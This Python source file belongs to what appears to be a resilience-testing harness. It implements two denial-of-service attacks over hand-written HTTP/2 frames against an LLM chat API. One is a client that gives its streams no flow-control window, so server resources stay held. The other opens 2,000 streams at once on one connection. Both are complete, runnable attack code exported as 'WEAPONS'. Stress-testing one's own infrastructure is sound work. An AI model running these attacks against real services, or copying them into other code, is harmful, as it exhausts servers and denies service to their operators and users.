"""Attacks over HTTP/2, in frames written by hand (RFC 9113): a caller that gives no window, and one of many streams."""

from __future__ import annotations

import asyncio
import struct
from collections import Counter
from collections.abc import Iterable
from typing import ClassVar

from hostile.attacks import CUT
from hostile.http_weapons import CHAT, chat_body, tls_context
from hostile.job import Target

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW_SIZE = 4
_STREAMS = 2000
# The first byte of an indexed :status of HPACK's static table (RFC 7541, appendix A).
_STATUSES = {0x88: "200", 0x8C: "400", 0x8D: "404", 0x8E: "500"}


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(fields: Iterable[tuple[str, str]]) -> bytes:
    """Return fields as literals that nobody indexes: no table, no Huffman code."""
    return b"".join(b"\x00" + _string(name) + _string(value) for name, value in fields)


def _string(text: str) -> bytes:
    assert len(text) < 127, "in one byte"
    return bytes([len(text)]) + text.encode()


class Http2:
    """Opens streams on a connection of its own."""

    holds_on: ClassVar[bool] = True
    window: ClassVar[int] = 0
    prompt: ClassVar[bytes] = b"VAST"

    def __init__(self, target: Target, model: str) -> None:
        self._host, _, port = target.http.rpartition(":")
        self._port = int(port)
        self._tls = tls_context(target)
        if self._tls is not None:
            self._tls.set_alpn_protocols(["h2"])
        self._body = chat_body(model, b'[{"role":"user","content":"%b"}]' % self.prompt, b',"stream":true')

    async def aclose(self) -> None:
        """Hold nothing."""

    async def strike(self, key: str) -> Iterable[str]:
        """Open one stream; return how it ended."""
        return await self.exchange(key, 1)

    async def exchange(self, key: str, streams: int) -> Iterable[str]:
        """Open so many streams; return how each ended."""
        try:
            reader, writer = await asyncio.open_connection(self._host, self._port, ssl=self._tls)
        except OSError:
            return [CUT] * streams
        seen: Counter[str] = Counter()
        try:
            settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, self.window)
            writer.write(_PREFACE + frame(_SETTINGS, 0, 0, settings))
            writer.write(b"".join(self._request(key, 2 * number + 1) for number in range(streams)))
            await self._watch(reader, writer, seen, streams)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.transport.abort()
        seen[CUT] += streams - seen.total()
        return seen.elements()

    def _request(self, key: str, stream: int) -> bytes:
        fields = [
            (":method", "POST"), (":scheme", "https"), (":authority", self._host), (":path", CHAT),
            ("authorization", f"Bearer {key}"), ("content-type", "application/json"), ("x-penstock-timeout", "10s"),
        ]  # fmt: skip
        return frame(_HEADERS, _END_HEADERS, stream, header_block(fields)) + frame(
            _DATA, _END_STREAM, stream, self._body
        )

    async def _watch(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, seen: Counter[str], streams: int
    ) -> None:
        """Answer what keeps the connection going, until every stream has ended."""
        statuses: dict[int, str] = {}
        while seen.total() < streams:
            head = await reader.readexactly(9)
            kind, flags, stream = struct.unpack(">BBI", head[3:])
            payload = await reader.readexactly(int.from_bytes(head[:3]))
            if kind in (_SETTINGS, _PING) and not flags & _ACK:
                writer.write(frame(kind, _ACK, 0, payload if kind == _PING else b""))
            elif kind == _HEADERS:
                statuses.setdefault(stream, _status_of(payload))
            elif kind == _RST_STREAM:
                seen["refused" if int.from_bytes(payload) == 7 else CUT] += 1
            if kind in (_HEADERS, _DATA) and flags & _END_STREAM:
                seen[statuses[stream]] += 1


def _status_of(block: bytes) -> str:
    """Return a status; one that the static table lacks is a literal of name 8, its digits plain or in Huffman's code."""
    if block[0] in _STATUSES:
        return _STATUSES[block[0]]
    length = block[1] & 0x7F
    digits = block[2 : 2 + length]
    return _huffman_digits(digits) if block[1] & 0x80 else digits.decode()


def _huffman_digits(coded: bytes) -> str:
    """Return digits of RFC 7541, appendix B: 0 to 2 have five bits, 3 to 9 six."""
    bits = "".join(f"{byte:08b}" for byte in coded)
    text = ""
    while len(text) < 3:
        size = 5 if int(bits[:5], 2) <= 2 else 6
        code = int(bits[:size], 2)
        text += str(code if size == 5 else code - 0x19 + 3)
        bits = bits[size:]
    return text


class DeafHttp2(Http2):
    """Gives its stream no window."""


class ManyStreams(Http2):
    """Opens thousands of streams at once, and takes what comes."""

    holds_on = False
    window = 1 << 20
    prompt = b"Hi"

    async def strike(self, key: str) -> Iterable[str]:
        return await self.exchange(key, _STREAMS)


WEAPONS = {"deaf_http2": DeafHttp2, "many_streams": ManyStreams}
